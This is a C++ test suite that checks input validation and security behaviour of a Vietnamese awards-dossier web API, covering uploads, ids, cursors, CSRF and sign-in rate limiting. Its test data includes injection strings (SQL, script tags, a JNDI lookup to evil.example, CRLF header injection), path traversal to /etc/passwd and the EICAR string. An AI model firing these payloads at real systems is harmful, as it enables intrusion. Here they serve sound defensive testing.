// Bad values, versions, cursors, ids and files at the routes that take them; what is odd but lawful is kept as it is.
#include <fstream>

#include "api/composition_definitions.hpp"
#include "tests/api/battery/house_server.hpp"
#include "tests/api/desk/browser.hpp"
#include "tests/support/catch.hpp"

using namespace vinhdanh;
using namespace vinhdanh::test;
using namespace std::string_literals;

namespace {

/// A draft with its submission, and a dossier that was sent.
struct Desk : HouseServer {
  std::string occasion = house.open_occasion(3);
  std::string submission = house.open_submission(occasion);
  std::string draft;
  std::string sent;
  std::string clerk = house.clerk();
  std::string head = house.head();
  std::string officer = house.officer();
  Desk() {
    house.attach_letter(submission);
    draft = house.ready_dossier(submission, "Trường nháp");
    sent = house.ready_dossier(submission, "Trường đã gửi");
    house.submit(sent);
    house.intake();
    house.chairman();
    house.auditor();
  }
  RawAnswer post(const std::string& target, const std::string& token, const std::string& body, Lines more = {}) {
    more.insert(more.end(), {bearer(token), as_json, new_key()});
    return ask("POST", target, more, body);
  }
  RawAnswer put(const std::string& target, const std::string& token, const std::string& body, Lines more = {}) {
    more.insert(more.end(), {bearer(token), as_json});
    return ask("PUT", target, more, body);
  }
  RawAnswer get(const std::string& target, const std::string& token) { return ask("GET", target, {bearer(token)}); }
  RawAnswer upload(const std::string& bytes, const std::string& type, const std::string& slot = "achievement_report") {
    const auto etag = get(draft, clerk).header("etag");
    return ask("PUT", draft + "/papers/" + slot,
               {bearer(clerk), "Content-Type: " + type, "If-Match: " + etag,
                "Content-Length: " + std::to_string(bytes.size())},
               bytes);
  }
  RawAnswer save(const Json& content) {
    const auto etag = get(draft + "/content", clerk).header("etag");
    return put(draft + "/content", clerk, content.dump(), {"If-Match: " + etag});
  }
};

Json occasion_body() {
  return {{"plan", "lang-son-2021-2025"},
          {"milestone", "final_review"},
          {"name", "Tổng kết"},
          {"document", {{"number", "15/HD-SNV"}, {"date", "2025-01-15"}}},
          {"forms", {"provincial_merit"}},
          {"places", {{{"form", "provincial_merit"}, {"limit", 3}}}},
          {"opens", "2025-01-20"},
          {"receipt_deadline", "2025-06-20"}};
}

std::string raw_occasion(const std::string& member, const std::string& text) {
  auto body = occasion_body();
  body[Json::json_pointer(member)] = "@";
  auto dumped = body.dump();
  return dumped.replace(dumped.find("\"@\""), 3, text);
}

std::string piled() {
  std::string text = "a";
  for (int i = 0; i < 10'000; ++i) text += "\xcc\x81";
  return text;
}

}  // namespace

TEST_CASE("B21 B26 B27 B28 B29 B31 B46 an occasion with a bad value is not opened", "[battery]") {
  Desk desk;
  const auto before = desk.standing();
  struct Row {
    std::string row, body;
    int status = 422;
    std::string code = "validation";
  };
  auto with = [](const std::string& member, const Json& value) {
    auto body = occasion_body();
    body[Json::json_pointer(member)] = value;
    return body.dump();
  };
  std::vector<std::string> many(100'000, "x");
  const std::vector<Row> rows = {
      {"B21", "null"},
      {"B21", "[]"},
      {"B21", "\"x\""},
      {"B26", raw_occasion("/places/0/limit", "12345678901234567890123")},
      {"B26", raw_occasion("/places/0/limit", "-0")},
      {"B26", raw_occasion("/places/0/limit", "1.0")},
      {"B26", raw_occasion("/places/0/limit", "9007199254740993")},
      {"B26", raw_occasion("/places/0/limit", "1e400"), 400, "invalid_json"},
      {"B27", with("/nope", 1)},
      {"B27", with("/__proto__", {{"open", true}})},
      {"B27", with("/constructor", "x")},
      {"B28", with("/office", "ubnd_lang_son")},
      {"B28", with("/id", "x")},
      {"B28", with("/open", true)},
      {"B28", with("/version", 7)},
      {"B29", with("/name", "")},
      {"B29", with("/name", "   ")},
      {"B29", with("/name", std::string(21'000, 'a'))},
      {"B29", with("/name", std::string(10u << 20, 'a')), 413, "payload_too_large"},
      {"B29", with("/forms", many), 413, "payload_too_large"},
      {"B29", with("/forms", std::vector<std::string>(501, "x"))},
      {"B31", with("/opens", "2026-02-29")},
      {"B31", with("/opens", "2026-13-01")},
      {"B31", with("/opens", "0000-01-01")},
      {"B31", with("/opens", "9999-12-32")},
      {"B31", with("/opens", "-0001-01-01")},
      {"B31", with("/opens", "2025-01-20T00:00:00+25:00")},
      {"B31", with("/opens", " 2025-01-2")},
      {"B31", with("/receipt_deadline", "2024-01-01")},
      {"B46", with("/places/0/limit", -1)},
      {"B46", raw_occasion("/places/0/limit", "9223372036854775808")},
      {"B46", with("/places/0/limit", 1'000'001)},
  };
  for (const auto& row : rows) {
    INFO(row.row << ' ' << row.body.substr(0, 120));
    check_problem(desk.post("/v1/occasions", desk.officer, row.body), row.status, row.code);
  }
  CHECK(desk.standing() == before);
  CHECK(desk.alive());
}

TEST_CASE("B27 B28 B29 B30 B31 content with a bad value is not saved", "[battery]") {
  Desk desk;
  const auto before = desk.standing();
  const auto etag = desk.get(desk.draft + "/content", desk.clerk).header("etag");
  const auto good = some_content("Trường A");
  const auto with = [&](const std::string& member, const Json& value) {
    auto body = good;
    body[Json::json_pointer(member)] = value;
    return body.dump();
  };
  const std::vector<std::pair<std::string, std::string>> rows = {
      {"B27", with("/nope", 1)},
      {"B28", with("/state", "awarded")},
      {"B28", with("/approved_by", "me")},
      {"B28", with("/nominee/granted", true)},
      {"B28", with("/n", 4)},
      {"B28", with("/prev", "0")},
      {"B30", with("/nominee/name", "a\0b"s)},
      {"B30", with("/nominee/name", "a\u0007b")},
      {"B30", with("/nominee/name", "a\u0090b")},
      {"B30", with("/nominee/name", "gpj.exe\u202e")},
      {"B30", with("/nominee/name", "Trường\u200bA")},
      {"B30", with("/nominee/name", "Trường\u2060A")},
      {"B30", with("/nominee/name", piled())},
      {"B31", with("/achievement_from", "2026-02-29")},
      {"B31", with("/achievement_to", "2020-01-01")},
  };
  for (const auto& [row, body] : rows) {
    INFO(row << ' ' << body.substr(0, 120));
    check_problem(desk.put(desk.draft + "/content", desk.clerk, body, {"If-Match: " + etag}), 422, "validation");
  }
  CHECK(desk.standing() == before);
}

TEST_CASE("B30 a name typed letter by letter with its marks apart is the same name", "[battery]") {
  Desk desk;
  const std::string composed = "Trường Nguyễn Huệ";
  const std::string apart = "Tru\u031bo\u031b\u0300ng Nguye\u0302\u0303n Hue\u0323\u0302";
  REQUIRE(desk.save(some_content(apart)).status == 200);
  const auto kept = Json::parse(desk.get(desk.draft + "/content", desk.clerk).body);
  CHECK(kept["content"]["nominee"]["name"] == composed);
  for (const auto& asked : {composed, apart, "nguyen hue"s}) {
    INFO(asked);
    const auto found = Json::parse(desk.post("/v1/dossiers/search", desk.clerk, Json{{"text", asked}}.dump()).body);
    REQUIRE(found["items"].size() == 1);
    CHECK("/v1/dossiers/" + found["items"][0]["id"].get<std::string>() == desk.draft);
  }
  const auto manager = desk.house.token("lang_son", Role::administrator);
  CHECK(desk.post("/v1/accounts", manager, Json{{"login", "huệ"}, {"name", composed}}.dump()).status ==
        desk.post("/v1/accounts", manager, Json{{"login", "hue\u0323\u0302"}, {"name", apart}}.dump()).status);
}

TEST_CASE("B32 B33 what looks like code is text", "[battery]") {
  Desk desk;
  const std::vector<std::string> odd = {"' OR 1=1--",
                                        "%",
                                        "_",
                                        "Robert'); DROP TABLE events;--",
                                        "$.a[*]",
                                        "<script>alert(1)</script>",
                                        "{{7*7}}",
                                        "%n%s%x",
                                        "${jndi:ldap://evil.example/a}",
                                        "dòng một\r\nSet-Cookie: a=b",
                                        "=1+1",
                                        "../../etc/passwd"};
  for (const auto& text : odd) {
    INFO(text);
    auto content = some_content("Trường " + text);
    content["achievement"] = text;
    REQUIRE(desk.save(content).status == 200);
    const auto kept = desk.get(desk.draft + "/content", desk.clerk);
    CHECK(kept.header("content-type") == "application/json; charset=utf-8");
    CHECK(kept.header("x-content-type-options") == "nosniff");
    CHECK(kept.header("set-cookie").empty());
    CHECK(Json::parse(kept.body)["content"]["achievement"] == text);
    const auto found = desk.post("/v1/dossiers/search", desk.clerk, Json{{"text", text}}.dump());
    REQUIRE(found.status == 200);
    const auto items = Json::parse(found.body)["items"];
    for (const auto& item : items) {
      CHECK("/v1/dossiers/" + item["id"].get<std::string>() == desk.draft);
    }
    for (const std::string parameter :
         {"plan", "stage", "occasion", "unit", "office", "external_ref", "code", "form"}) {
      INFO(parameter);
      std::string encoded;
      for (const unsigned char c : text) {
        if (c < 0x20) continue;
        char hex[4];
        std::snprintf(hex, sizeof hex, "%%%02X", static_cast<unsigned>(c));
        encoded += hex;
      }
      const auto listed = desk.get("/v1/dossiers?" + parameter + "=" + encoded, desk.clerk);
      CHECK(listed.status == 200);
      if (listed.status == 200) CHECK(Json::parse(listed.body)["items"].empty());
    }
  }
  for (const auto& line : desk.log()) {
    CHECK(Json::accept(line));
    CHECK(line.find('\n') == std::string::npos);
    CHECK(line.find("jndi") == std::string::npos);
  }
}

TEST_CASE("B34 what is not exactly an id of the kind is not there", "[battery]") {
  Desk desk;
  const auto id = desk.draft.substr(desk.draft.rfind('/') + 1);
  const auto submission = desk.submission.substr(desk.submission.rfind('/') + 1);
  auto upper = id;
  for (auto& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
  const auto absent = desk.get("/v1/dossiers/0190b0b0-0000-7000-8000-000000000000", desk.clerk);
  check_problem(absent, 404, "not_found");
  REQUIRE(upper != id);
  for (const auto& odd : {upper, id + "%20", "%20" + id, "%7B" + id + "%7D", id + "-", submission, desk.occasion, "1"s,
                          "x"s, "%27%20OR%201=1--"s, id.substr(1), "null"s, std::string(4096, 'a')}) {
    INFO(odd);
    const auto answer = desk.get("/v1/dossiers/" + odd, desk.clerk);
    check_problem(answer, 404, "not_found");
    CHECK(desk.get("/v1/submissions/" + (odd == submission ? id : odd), desk.clerk).status == 404);
    CHECK(desk.get("/v1/decisions/" + odd, desk.clerk).status == 404);
    CHECK(desk.get("/v1/duties/" + odd, desk.clerk).status == 404);
  }
}

TEST_CASE("B37 a role that may not is 403 in scope", "[battery]") {
  Desk desk;
  const auto before = desk.standing();
  const auto etag = desk.get(desk.sent, desk.clerk).header("etag");
  check_problem(desk.post(desk.sent + "/actions/receive", desk.clerk, "{}", {"If-Match: " + etag}), 403, "not_in_role");
  check_problem(desk.post("/v1/occasions", desk.clerk, occasion_body().dump()), 403, "forbidden");
  CHECK(desk.standing() == before);
}

TEST_CASE("B52 a command wants the one version that was seen", "[battery]") {
  Desk desk;
  const auto before = desk.standing();
  const auto body = Json{{"reason", "Không còn đề nghị"}}.dump();
  struct Row {
    Lines lines;
    int status;
    std::string code;
  };
  const std::vector<Row> rows = {
      {{}, 428, "precondition_required"},
      {{"If-Match: *"}, 400, "invalid_precondition"},
      {{"If-Match: 1"}, 400, "invalid_precondition"},
      {{"If-Match: \"1"}, 400, "invalid_precondition"},
      {{"If-Match: \"1\", \"2\""}, 400, "invalid_precondition"},
      {{"If-Match: \"1\"", "If-Match: \"2\""}, 400, "malformed_request"},
      {{"If-Match: W/\"1\""}, 412, "precondition_failed"},
      {{"If-Match: \"99\""}, 412, "precondition_failed"},
      {{"If-Match: \"-1\""}, 412, "precondition_failed"},
      {{"If-Match: \"01\""}, 412, "precondition_failed"},
      {{"If-Match: \"99999999999999999999\""}, 412, "precondition_failed"},
      {{"If-Match: \"\""}, 412, "precondition_failed"},
  };
  for (const auto& thing : {desk.sent, desk.submission}) {
    for (const auto& row : rows) {
      INFO(thing << ' ' << (row.lines.empty() ? "" : row.lines.front()));
      check_problem(desk.post(thing + "/actions/withdraw", desk.head, body, row.lines), row.status, row.code);
    }
  }
  CHECK(desk.standing() == before);
}

TEST_CASE("B53 B54 B55 pages, cursors and filters that nobody was given", "[battery]") {
  Desk desk;
  const Lines lists{"/v1/dossiers", "/v1/submissions", "/v1/occasions", "/v1/decisions",
                    "/v1/duties",   "/v1/notices",     "/v1/inbox"};
  for (const auto& list : lists) {
    INFO(list);
    for (const std::string size :
         {"0", "-1", "201", "1000000000", "99999999999999999999", "1.5", "abc", "1%20", "%2b1"}) {
      INFO(size);
      check_problem(desk.get(list + "?limit=" + size, desk.clerk), 422, "validation");
    }
    for (const auto& cursor : std::vector<std::string>{"x", "AAAA", "%00", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
                                                       "..%2f", std::string(3000, 'A')}) {
      INFO(cursor.substr(0, 50));
      const auto answer = desk.get(list + "?cursor=" + cursor, desk.clerk);
      check_problem(answer, 400, cursor == "%00" ? "malformed_request" : "invalid_cursor");
    }
    check_problem(desk.get(list + "?limit=1&limit=2", desk.clerk), 400, "parameter_repeated");
    check_problem(desk.get(list + "?password_hash=a", desk.clerk), 400, "unknown_parameter");
    check_problem(desk.get(list + "?sort=salt", desk.clerk), 400, "unknown_parameter");
  }
  const auto page = Json::parse(desk.get("/v1/dossiers?limit=1", desk.clerk).body);
  REQUIRE(page.contains("cursor"));
  const auto cursor = page["cursor"].get<std::string>();
  CHECK(desk.get("/v1/dossiers?limit=1&cursor=" + cursor, desk.clerk).status == 200);
  check_problem(desk.get("/v1/dossiers?limit=1&cursor=" + cursor, desk.head), 400, "invalid_cursor");
  check_problem(desk.get("/v1/dossiers?limit=1&phase=drafting&cursor=" + cursor, desk.clerk), 400, "invalid_cursor");
  check_problem(desk.get("/v1/inbox?limit=1&cursor=" + cursor, desk.clerk), 400, "invalid_cursor");
  auto turned = cursor;
  turned[3] = turned[3] == 'A' ? 'B' : 'A';
  check_problem(desk.get("/v1/dossiers?limit=1&cursor=" + turned, desk.clerk), 400, "invalid_cursor");
  check_problem(desk.post("/v1/dossiers/search", desk.clerk, Json{{"cursor", turned}}.dump()), 400, "invalid_cursor");

  const std::vector<std::pair<std::string, Json>> filters = {
      {"an unknown order", {{"order", "salt"}}},
      {"a thousand phases", {{"phases", std::vector<std::string>(1000, "drafting")}}},
      {"a thousand units", {{"units", std::vector<std::string>(1000, "x")}}},
      {"a text of 20,000", {{"text", std::string(20'000, 'a')}}},
      {"a thousand words",
       {{"text",
         [] {
           std::string text;
           for (int i = 0; i < 1000; ++i) text += "a ";
           return text;
         }()}}},
      {"a day that does not exist", {{"due_to", "2025-02-30"}}},
  };
  for (const auto& [name, body] : filters) {
    INFO(name);
    for (const std::string route : {"/v1/dossiers/search", "/v1/dossiers/facets", "/v1/dossiers/durations"}) {
      check_problem(desk.post(route, desk.clerk, body.dump()), 422, "validation");
    }
  }
  // A pattern for a machine that backtracks is a text like any other here.
  CHECK(desk.post("/v1/dossiers/search", desk.clerk, Json{{"text", "(a+)+$" + std::string(100, 'a') + "!"}}.dump())
            .status == 200);
}

TEST_CASE("B56 B57 B58 files that are not what they say are not kept", "[battery]") {
  Desk desk;
  const auto before = desk.standing();
  const auto exe = "MZ\x90\x00\x03"s + std::string(200, '\0');
  const auto eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"s;
  struct Row {
    std::string bytes, type;
    int status;
    std::string code;
  };
  const std::vector<Row> rows = {
      {exe, "application/pdf", 422, "file_type_mismatch"},
      {"<!DOCTYPE html><script>alert(1)</script>", "application/pdf", 422, "file_type_mismatch"},
      {eicar, "application/pdf", 422, "file_type_mismatch"},
      {pdf(), "image/png", 422, "file_type_mismatch"},
      {"PK\x03\x04 nothing of Word", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", 422,
       "file_type_mismatch"},
      {" " + pdf(), "application/pdf", 422, "file_type_mismatch"},
      {"", "application/pdf", 422, "file_rejected"},
      {"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "image/svg+xml", 415, "unsupported_media_type"},
      {"<html>", "text/html", 415, "unsupported_media_type"},
      {exe, "application/octet-stream", 415, "unsupported_media_type"},
      {pdf(), "multipart/form-data", 415, "unsupported_media_type"},
      {pdf(), "multipart/form-data; boundary=" + std::string(4000, 'b'), 415, "unsupported_media_type"},
      {pdf(), "multipart/mixed; boundary=a", 415, "unsupported_media_type"},
  };
  for (const auto& row : rows) {
    INFO(row.type.substr(0, 60) << ' ' << row.bytes.size());
    check_problem(desk.upload(row.bytes, row.type), row.status, row.code);
  }
  check_problem(
      desk.ask("PUT", desk.draft + "/papers/achievement_report",
               {bearer(desk.clerk), "Content-Type: application/pdf", "If-Match: \"1\"", "Content-Length: 20971521"}),
      413, "payload_too_large");
  // The name of a file is the slot's: whatever stands in the path or beside the bytes is not taken.
  const auto etag = desk.get(desk.draft, desk.clerk).header("etag");
  for (const auto& slot : std::vector<std::string>{"..%2f..%2fetc%2fpasswd", "C:%5Cx", "a%0a", std::string(4096, 's'),
                                                   "gpj%E2%80%AE.exe", "%2e%2e"}) {
    INFO(slot.substr(0, 40));
    const auto answer = desk.ask("PUT", desk.draft + "/papers/" + slot,
                                 {bearer(desk.clerk), "Content-Type: application/pdf", "If-Match: " + etag}, pdf());
    CHECK((answer.status == 400 || answer.status == 404 || answer.status == 422));
    CHECK_FALSE(code_of(answer).empty());
  }
  CHECK(desk.standing() == before);
  const auto kept = desk.ask("PUT", desk.draft + "/papers/achievement_report",
                             {bearer(desk.clerk), "Content-Type: application/pdf", "If-Match: " + etag,
                              "Content-Disposition: attachment; filename=\"../../etc/passwd\""},
                             pdf());
  REQUIRE(kept.status == 200);
  CHECK(kept.body.find("passwd") == std::string::npos);
  const auto got = desk.get(desk.draft + "/papers/achievement_report", desk.clerk);
  CHECK(got.header("content-disposition") == "attachment; filename=\"achievement_report.pdf\"");
  CHECK(got.header("x-content-type-options") == "nosniff");
}

TEST_CASE("B68 a form on a foreign page does nothing with the visitor's cookie", "[battery]") {
  HouseServer server;
  const std::string office = "so_noi_vu_lang_son";
  const auto person = with_password(server.house, "an", "một mật khẩu dài");
  appoint(server.house, person, office, Role::board_officer);
  const auto here = "Origin: http://127.0.0.1:" + std::to_string(server.port());
  const auto sign_in = Json{{"login", "an"}, {"password", "một mật khẩu dài"}}.dump();
  const auto session = server.ask("POST", "/v1/sessions", {as_json, here, "Sec-Fetch-Site: same-origin"}, sign_in);
  REQUIRE(session.status == 201);
  const auto set = session.header("set-cookie");
  const auto cookie = "Cookie: " + set.substr(0, set.find(';'));
  const auto before = server.standing();
  const auto body = occasion_body().dump();
  for (const Lines& page :
       {Lines{"Origin: https://evil.example"}, Lines{"Origin: null"}, Lines{"Sec-Fetch-Site: cross-site"},
        Lines{here, "Sec-Fetch-Site: cross-site"}, Lines{here + "0"}, Lines{}}) {
    INFO((page.empty() ? "neither header" : page.front()));
    auto lines = page;
    lines.insert(lines.end(), {cookie, as_json, new_key()});
    check_problem(server.ask("POST", "/v1/occasions", lines, body), 403, "csrf");
  }
  check_problem(
      server.ask("POST", "/v1/occasions", {cookie, "Content-Type: text/plain", "Origin: https://evil.example"}, body),
      415, "unsupported_media_type");
  check_problem(
      server.ask("POST", "/v1/occasions",
                 {cookie, "Content-Type: application/x-www-form-urlencoded", "Origin: https://evil.example"}, "a=b"),
      415, "unsupported_media_type");
  check_problem(server.ask("POST", "/v1/sessions", {as_json, "Origin: https://evil.example"}, sign_in), 403, "csrf");
  CHECK(server.standing() == before);
  CHECK(server.ask("POST", "/v1/occasions", {cookie, as_json, new_key(), here}, body).status == 201);
}

TEST_CASE("sign-in: bad input is refused and says nothing of the accounts", "[battery]") {
  HouseServer server;
  with_password(server.house, "an", "một mật khẩu dài");
  const auto before = server.standing();
  const auto send = [&](const std::string& body, Lines lines = {as_json}) {
    return server.ask("POST", "/v1/sessions", lines, body);
  };
  check_problem(send("{}"), 401, "sign_in_failed");
  check_problem(send("null"), 422, "validation");
  check_problem(send("[]"), 422, "validation");
  check_problem(send("{\"login\":\"an\""), 400, "invalid_json");
  check_problem(send(R"({"login":"an","password":7})"), 422, "validation");
  check_problem(send(R"({"login":"an","password":"x","role":"decider"})"), 422, "validation");
  check_problem(send(R"({"login":"an","login":"binh","password":"x"})"), 400, "invalid_json");
  check_problem(send(R"({"login":"an\u0000","password":"x"})"), 422, "validation");
  check_problem(send(Json{{"login", "an"}, {"password", std::string(5000, 'x')}}.dump()), 413, "payload_too_large");
  check_problem(send(std::string(5000, '[')), 413, "payload_too_large");
  check_problem(send(R"({"login":"an","password":"x"})", {"Content-Type: application/x-www-form-urlencoded"}), 415,
                "unsupported_media_type");
  check_problem(send(R"({"login":"' OR 1=1--","password":"x"})"), 401, "sign_in_failed");
  check_problem(send(R"({"login":"an","password":"x"})"), 401, "sign_in_failed");
  CHECK(server.standing() == before);
  for (const auto& line : server.log()) CHECK(line.find("OR 1=1") == std::string::npos);
}

TEST_CASE("B70 guessing passwords is cut short, and others are served", "[battery]") {
  HouseServer server;
  with_password(server.house, "an", "một mật khẩu dài");
  const auto token = server.house.clerk();
  int limited = 0;
  for (int i = 0; i < 60; ++i) {
    const auto answer = server.ask("POST", "/v1/sessions", {as_json}, R"({"login":"an","password":"sai"})");
    if (answer.status == 401) continue;
    check_problem(answer, 429, "rate_limited");
    CHECK_FALSE(answer.header("retry-after").empty());
    ++limited;
    CHECK(server.ask("GET", "/v1/me", {bearer(token)}).status == 200);
  }
  CHECK(limited > 40);
}
